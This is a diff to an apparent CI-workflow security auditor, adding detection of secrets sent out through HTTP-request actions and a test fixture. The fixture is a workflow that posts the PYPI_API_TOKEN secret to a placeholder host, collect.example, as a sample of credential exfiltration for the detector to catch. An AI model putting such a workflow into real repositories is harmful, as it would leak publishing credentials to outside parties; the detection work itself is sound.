@@ -29,6 +29,7 @@ from collections.abc import Iterable, Iterator, Mapping
 
 from msgspec import Struct
 
+from audits.analysis.known_actions import REQUEST_ACTIONS
 from audits.checks.api import (
     DOCKER_HUB,
     GITHUB_SECRETS,
@@ -95,6 +96,17 @@ jobs:
         env:
           TOKEN: ${{ secrets.%s }}%s
 """
+_REQUEST = """\
+on: push
+jobs:
+  send:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: tyrrrz/action-http-request@v1
+        with:
+          url: https://collect.example
+          body: ${{ secrets.PYPI_API_TOKEN }}  # !
+"""
 _LOGIN = """\
 on: {push: {branches: [main]}}
 jobs:
@@ -156,6 +168,11 @@ def _beside(name: str, release: str, *other: str, outcome: Outcome | None = None
                     "secrets.X", "toJSON(secrets)"
                 )
             },
+        ),
+        Example(
+            name="sent away by an action",
+            workflow=PYPI_RELEASE_PUBLISHED,
+            files={".github/workflows/other.yml": _REQUEST},
         ),
         Example(
             name="every secret, sent nowhere",
@@ -352,6 +369,9 @@ def _sent(workflow: Workflow, job: Job) -> Iterator[tuple[Step, _Read]]:
     step has them all at once.
     """
     for step in job.live_steps:
+        if step.uses is not None and step.uses.action in REQUEST_ACTIONS:
+            for text in step.inputs.values():
+                yield from ((step, read) for read in (*_reads((text,)), *_reads_all(text)))
         if step.run is None or _NETWORK.search(step.run.value) is None:
             continue
         around = (*workflow.env.items(), *job.env.items(), *step.env.items())
@@ -364,13 +384,14 @@ def _sent(workflow: Workflow, job: Job) -> Iterator[tuple[Step, _Read]]:
 
 def _is_sent_elsewhere(step: Step, secret: str) -> bool:
     """Whether a secret named like a registry's credential goes to another host than its own."""
-    if step.run is None or not _TOKEN_WORD.search(secret):
+    if not _TOKEN_WORD.search(secret):
         return False
+    texts = [step.run.value] if step.run is not None else [v.value for v in step.inputs.values()]
     infos: tuple[RegistryInfo, ...] = (*(registry.info for registry in Registry), DOCKER_HUB)
     named = [i for i in infos if i.word in _NAMES and re.search(_NAMES[i.word], secret, re.I)]
     if not named:
         return False
     own = {label for info in named for host in info.hosts for label in host.split(".")}
     own |= {info.word for info in named}
-    hosts = [host.lower().split(".") for host in _HOST.findall(step.run.value)]
+    hosts = [host.lower().split(".") for text in texts for host in _HOST.findall(text)]
     return not hosts or any(own.isdisjoint(host) for host in hosts)
